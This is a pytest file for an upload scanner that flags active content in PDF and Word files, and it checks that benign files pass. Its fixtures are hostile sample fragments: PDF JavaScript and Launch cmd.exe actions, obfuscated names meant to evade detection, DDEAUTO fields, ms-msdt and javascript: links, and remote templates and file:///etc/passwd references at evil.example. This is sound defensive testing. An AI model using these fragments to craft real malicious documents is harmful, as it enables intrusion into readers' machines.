"""Files with active content, and harmless ones."""

import io
import re
import zipfile
import zlib

import pytest

from documents.uploads.active_content import active_content
from documents.uploads.media_types import MediaType
from tests.support.api import upload_files

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer <<" + trailer + b">>\nstartxref\n0\n%%EOF\n"


def object_stream(content: bytes, dictionary: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return b"7 0 obj <<" + dictionary + b">>\nstream\n" + packed + b"\nendstream endobj"


SCRIPT = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"


def in_pdf(data: bytes) -> str:
    return active_content(io.BytesIO(data), MediaType.PDF)


def in_word(data: bytes) -> str:
    return active_content(io.BytesIO(data), MediaType.DOCX)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (pdf(b"1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"), "JavaScript"),
        (pdf(b"1 0 obj << /S /J#61vaScri#70t /JS (1) >> endobj"), "JavaScript"),
        (pdf(b"1 0 obj << /S /Launch /F (cmd.exe) >> endobj"), "Launch"),
        (pdf(b"1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj"), "嵌入的文件"),
        (pdf(b"1 0 obj << /AcroForm << /XFA 2 0 R >> >> endobj"), "XFA"),
        (pdf(object_stream(b"1 0 << /S /JavaScript >>")), "JavaScript"),
        (pdf(object_stream(b"1 0 << /S /JavaScr#69pt >>")), "JavaScript"),
        (
            pdf(object_stream(b"1 0 << >>", b"/Type /Obj#53tm /Filter [/ASCIIHexDecode /FlateDecode]")),
            "无法检查",
        ),
        (pdf(object_stream(b"1 0 << >>", b"/Type /ObjStm /Filter 9 0 R")), "无法检查"),
        (
            pdf(
                object_stream(b"1 0 << >>", b"/Type /ObjStm /Filter /FlateDecode /X (" + b"a" * 70_000 + b")")
            ),
            "无法检查",
        ),
        (pdf(b"7 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nno zlib\nendstream"), "无法检查"),
        (pdf(trailer=b"/Encrypt 4 0 R"), "加密"),
        (pdf(trailer=b"/#45ncrypt 4 0 R"), "加密"),
        # Readers accept other line ends after `stream`, and not all check an object stream's type.
        (pdf(object_stream(SCRIPT).replace(b"stream\n", b"stream\r", 1)), "JavaScript"),
        (pdf(object_stream(SCRIPT).replace(b"stream\n", b"stream \n", 1)), "JavaScript"),
        (pdf(object_stream(SCRIPT, b"/N 1 /First 4 /Filter /FlateDecode")), "JavaScript"),
        (pdf(object_stream(SCRIPT, b"/Filter /FlateDecode")), "JavaScript"),
        (
            pdf(object_stream(b"1 0 <<>>", b"/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]")),
            "无法检查",
        ),
        (pdf(b"1 0 obj << /OpenAction << /S /URI /URI (http://x.example) >> >> endobj"), "访问网址"),
        (
            pdf(b"1 0 obj << /OpenAction 2 0 R >> endobj", b"2 0 obj << /S /URI /URI (x) >> endobj"),
            "访问网址",
        ),
        (
            pdf(b"1 0 obj << /AA << /O 2 0 R >> >> endobj", b"2 0 obj << /S /URI /URI (x) >> endobj"),
            "访问网址",
        ),
        (pdf(rb"1 0 obj << /S /GoToR /F (\\evil\share) >> endobj"), "GoToR"),
        (pdf(b"1 0 obj << /Type /Filespec /EF << /F 2 0 R >> >> endobj"), "嵌入的文件"),
        (pdf(b"1 0 obj << /Subtype /Movie >> endobj"), "富媒体"),
        (pdf(b"1 0 obj << /Subtype /3D >> endobj"), "富媒体"),
    ],
)
def test_a_pdf_that_would_do_something_is_noticed(data: bytes, says: str) -> None:
    assert says in in_pdf(data)


def test_a_pdf_too_large_inside_cannot_be_looked_into() -> None:
    assert "无法检查" in in_pdf(pdf(object_stream(b" " * 70_000_000)))


@pytest.mark.parametrize(
    "data",
    [
        upload_files.PDF,
        pdf(object_stream(b"1 0 << /Type /Page >>")),
        pdf(object_stream(b"1 0 << /Type /Page >>").replace(b"endstream endobj", b"endstream\nendobj")),
        pdf(
            b"1 0 obj << /OpenAction [3 0 R /Fit] >> endobj",
            b"3 0 obj << /A << /S /URI /URI (x) >> >> endobj",
        ),
        pdf(b"8 0 obj << /Length 40 >>\nstream\n\xff/JS\xff/3D\xff/EF\xff/AA\xff/XFA\xff\nendstream\nendobj"),
        pdf(b"1 0 obj << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >> endobj"),
    ],
)
def test_a_pdf_that_would_do_nothing_is_left_alone(data: bytes) -> None:
    assert in_pdf(data) == ""


def relation(kind: str, target: str, mode: str = "External") -> str:
    return RELATIONS.format(
        f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )


def text(content: str) -> str:
    return f'<w:document xmlns:w="{WORD}"><w:body>{content}</w:body></w:document>'


def field(instruction: str) -> str:
    """Return a field whose instruction may contain fields."""
    pieces = re.split("(<.*>)", instruction)
    runs = "".join(one if one.startswith("<") else f"<w:instrText>{one}</w:instrText>" for one in pieces)
    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'


@pytest.mark.parametrize(
    "added",
    [
        {"word/vbaProject.bin": "x"},
        {"word/VBAPROJECT.BIN": "x"},
        {
            "word/other.bin": "x",
            "[Content_Types].xml": "<Types><Default ContentType='application/vnd.ms-office.VBAproject'/></Types>",
        },
        {"word/activeX/activeX1.xml": "<a/>"},
        {"word/embeddings/oleObject1.bin": "x"},
        {"word/embeddings/a.xlsx": "x"},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "t.dotm", "Internal")},
        {"word/_rels/document.xml.rels": relation("image", "http://evil.example/pixel.png")},
        {"word/_rels/document.xml.rels": relation("frame", "file:///etc/passwd")},
        {"word/_RELS/document.xml.RELS": relation("oleObject", "http://evil.example/")},
        {
            "word/footer9.xml": text(
                "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd </w:instrText></w:r></w:p>"
            )
        },
        {"word/footer9.xml": text('<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/a"/>')},
        {"word/footer9.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
        {"word/footer9.dat": text('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd"/>')},
        {"word/footer9.xml": text(field("QUOTE 68 68 69 65 85 84 79 32 99"))},
        {"word/footer9.xml": text(field(field("QUOTE DDE") + "AUTO c:\\\\cmd"))},
        {"word/footer9.xml": text(field("DATABASE c:\\\\data.mdb"))},
        {"word/footer9.xml": "<a>" * 1000 + "</a>" * 1000},
        {
            "word/footer9.xml": '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a"/>'
        },
        {"word/things/a.dat": "PK\x03\x04"},
        {"word/_rels/a.xml.rels": relation("oleObject", "things/a.dat", "Internal")},
        {"word/_rels/a.xml.rels": relation("package", "things/a.dat", "Internal")},
        {"word/_rels/a.xml.rels": relation("vbaProject", "things/a.dat", "Internal")},
        {"word/_rels/a.xml.rels": relation("control", "things/a.xml", "Internal")},
        {"word/_rels/a.xml.rels": relation("hyperlink", "ms-msdt:/id PCWDiagnostic")},
        {"word/_rels/a.xml.rels": relation("hyperlink", "javascript:alert(1)")},
        {"word/_rels/a.xml.rels": relation("hyperlink", r"\\evil\share\a.exe")},
    ],
)
def test_a_word_file_that_would_do_something_is_noticed(added: dict[str, str]) -> None:
    assert in_word(upload_files.changed(added)) != ""


@pytest.mark.parametrize(
    "added",
    [
        {},
        {"word/_rels/footer9.xml.rels": relation("hyperlink", "https://zaozhuang.example/")},
        {"word/footer9.xml": text("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>")},
        {"word/_rels/footer9.xml.rels": relation("hyperlink", "mailto:office@zaozhuang.example")},
        {"word/footer9.xml": text(field('HYPERLINK "https://zaozhuang.example/link/import"'))},
        {"word/footer9.xml": text(field("= " + field("PAGE") + " - 1"))},
        {"word/footer9.xml": text("<w:p><w:r><w:t>DDE 与 INCLUDEPICTURE 只是文字</w:t></w:r></w:p>")},
    ],
)
def test_a_word_file_that_would_do_nothing_is_left_alone(added: dict[str, str]) -> None:
    assert in_word(upload_files.changed(added)) == ""


@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml"])
def test_a_damaged_word_file_cannot_be_looked_into(name: str) -> None:
    damaged = bytearray(upload_files.docx())
    damaged[damaged.find(name.encode()) + len(name) + 8] ^= 0xFF
    assert "无法检查" in in_word(bytes(damaged))


def test_a_part_in_utf_16_is_read_like_others() -> None:
    dated = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")
    file = io.BytesIO(upload_files.docx())
    with zipfile.ZipFile(file, "a") as parts:
        parts.writestr("word/footer9.xml", dated)
    assert "DTD" in in_word(file.getvalue())
